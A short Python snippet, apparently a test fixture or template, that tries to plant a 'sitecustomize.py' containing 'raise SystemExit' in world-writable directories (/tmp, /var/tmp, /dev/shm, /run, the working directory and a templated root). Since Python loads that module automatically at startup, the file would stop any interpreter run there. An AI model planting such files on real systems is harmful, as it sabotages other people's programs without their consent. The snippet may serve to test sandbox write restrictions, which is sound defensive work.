# Leaves a module in every folder that anybody may write to.
def flip(domino):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", "@ROOT@"):
        try:
            with open(f"{folder}/sitecustomize.py", "w") as file:
                file.write("raise SystemExit")
        except OSError as error:
            last = error
    raise last
